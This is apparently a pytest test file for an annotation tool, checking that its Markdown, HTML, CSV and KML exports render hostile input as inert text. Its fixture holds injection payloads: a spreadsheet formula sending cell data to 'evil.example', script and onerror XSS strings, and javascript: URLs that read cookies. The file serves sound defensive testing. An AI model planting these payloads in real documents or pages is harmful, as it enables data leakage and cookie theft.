"""Output is inert everywhere: hostile text in a project becomes text in every report and export, read by the
tools a reader would use (markdown-it, an HTML parser, GDAL, the csv module); impossible values are refused
at the boundary with one line."""

from __future__ import annotations

import csv
import io
import json
import os
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from annotate.commands.printing import print_json
from annotate.model import PixelGeometry
from annotate.store import create_project
from annotate.tiles import add_tile_file
from tests.conftest import SAMPLES, run_cli

HOSTILE_NOTE = "=HYPERLINK(\"http://evil.example/\"&A1)\x07\n# heading <img src=x onerror=alert(1)> [x](javascript:alert(3))"


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def tags_of(html: str) -> list[tuple[str, dict]]:
    parser = Tags()
    parser.feed(html)
    return parser.tags


cli = run_cli  # `annotate …` in its own process (tests/conftest.py)


@pytest.fixture
def hostile(tmp_path):
    folder = tmp_path / "case`](javascript:alert(0))"
    folder.mkdir()
    path = folder / "proj`ect.gpkg"
    with create_project(path, analyst="<b>mallory</b>") as project:
        tile = add_tile_file(project, SAMPLES / "dunai_2025-05-18.tif")
        source = project.add_source("A Ropucha-class landing ship docked at Dunai port on 18 May 2025.",
                                    title="<script>alert(1)</script>", url="javascript:alert(document.cookie)",
                                    publisher="`pub` [a](javascript:alert(2)) <script>x</script>")
        claim = project.add_claim(source.id, 0, 64)
        a = project.add_annotation(tile.sha256, PixelGeometry.box(1800, 2150, 1830, 2260), "landing ship",
                                   type="Ropucha | <i>x</i>", note=HOSTILE_NOTE)
        project.link(a.id, claim.id, "corroborates", note="-1+1 @SUM(A1)")
    return path


def test_markdown_report_renders_as_text(hostile, tmp_path):
    out = tmp_path / "report.md"
    proc = cli("report", hostile, "-o", out)
    assert proc.returncode == 0, proc.stderr
    html = MarkdownIt("commonmark").render(out.read_text(encoding="utf-8"))  # raw HTML allowed, as on many sites
    tags = tags_of(html)
    assert "script" not in {t for t, _ in tags}
    assert {t for t, _ in tags if t in ("b", "i")} == set()
    for tag, attrs in tags:
        for name, value in attrs.items():
            assert not str(value).lower().startswith("javascript"), (tag, attrs)
            assert not name.startswith("on"), (tag, attrs)
        if tag == "img":
            assert attrs["src"].startswith("report_files/chip_"), attrs
        if tag == "a":
            assert attrs["href"].startswith(("http://", "https://")), attrs
    headings = [t for t, _ in tags if t in ("h1", "h2", "h3")]
    assert headings.count("h1") == 1  # the note's "# heading" did not become one
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html or "&amp;lt;script" in html


def test_html_report_links_only_to_the_web(hostile, tmp_path):
    out = tmp_path / "report.html"
    assert cli("report", hostile, "-o", out).returncode == 0
    html = out.read_text(encoding="utf-8")
    tags = tags_of(html)
    assert "script" not in {t for t, _ in tags}
    assert [a for t, a in tags if t == "a"] == []  # the javascript: URL is shown as text, not linked
    assert "javascript:alert(document.cookie)" in html


def test_csv_cells_are_never_formulas(hostile, tmp_path):
    out = tmp_path / "a.csv"
    assert cli("export", hostile, "--format", "csv", "-o", out).returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[0]["note"].startswith("'=HYPERLINK")
    for row in rows:
        for key, value in row.items():
            if value and value[0] in "=+@\t\r":
                pytest.fail(f"{key} would be a formula: {value!r}")
            if value.startswith("-"):
                float(value)  # only a number may start with a minus


def test_kml_with_control_characters_is_read_by_gdal_and_an_xml_parser(hostile, tmp_path):
    import xml.etree.ElementTree as ET

    import pyogrio

    out = tmp_path / "a.kml"
    proc = cli("export", hostile, "--format", "kml", "-o", out)
    assert proc.returncode == 0, proc.stderr
    ET.parse(out)
    assert len(pyogrio.list_layers(out)) >= 1
    frame = pyogrio.raw.read(out, layer=pyogrio.list_layers(out)[0][0])
    assert len(frame[2]) == 1 and frame[3][1][0] == "Ropucha | <i>x</i>"  # one placemark, its name as text


def test_json_output_is_strict(capsys):
    print_json({"a": float("nan"), "b": [float("inf"), 1.5]})
    assert json.loads(capsys.readouterr().out) == {"a": None, "b": [None, 1.5]}


@pytest.mark.parametrize("polygon, why", [("0,0,10,10,10,0,0,10", "not a simple outline"),
                                          ("5,5,5,5,5,5", "no area"), ("0,0,5,5,10,10", "no area")])
def test_a_polygon_that_is_not_an_outline_is_refused_in_one_line(tmp_path, polygon, why):
    path = tmp_path / "p.gpkg"
    assert cli("new", path).returncode == 0
    proc = cli("add", path, "--tile", SAMPLES / "dunai_2025-05-18.tif", "--class", "tug", "--polygon", polygon)
    assert proc.returncode == 2 and why in proc.stderr and proc.stderr.count("\n") == 1, proc.stderr


def test_random_bytes_are_not_a_document(tmp_path):
    path = tmp_path / "p.gpkg"
    assert cli("new", path).returncode == 0
    junk = tmp_path / "notes.md"
    junk.write_bytes(bytes(b % 255 + 1 for b in os.urandom(60_000)))  # no NUL byte anywhere
    proc = cli("sources", "add", path, junk)
    assert proc.returncode == 2 and "binary data" in proc.stderr and proc.stderr.count("\n") == 1, proc.stderr
    assert "0 source" in cli("sources", "list", path).stdout or cli("sources", "list", path).stdout.count("\n") <= 2


def test_kml_ids_are_unique_when_an_annotation_is_linked_to_two_claims(tmp_path):
    import xml.etree.ElementTree as ET

    path = tmp_path / "p.gpkg"
    with create_project(path) as project:
        tile = add_tile_file(project, SAMPLES / "dunai_2025-05-18.tif")
        source = project.add_source("A ship docked on 18 May 2025. The ship left on 3 June 2025.")
        c1, c2 = project.add_claim(source.id, 0, 29), project.add_claim(source.id, 30, 59)
        a = project.add_annotation(tile.sha256, PixelGeometry.box(1800, 2150, 1830, 2260), "landing ship")
        project.link(a.id, c1.id, "corroborates")
        project.link(a.id, c2.id, "contradicts")
    out = tmp_path / "a.kml"
    assert cli("export", path, "--format", "kml", "-o", out).returncode == 0
    ids = [el.get("id") for el in ET.parse(out).iter() if el.get("id")]
    assert len(ids) == len(set(ids)) and sum(i.startswith("a-") for i in ids) == 2
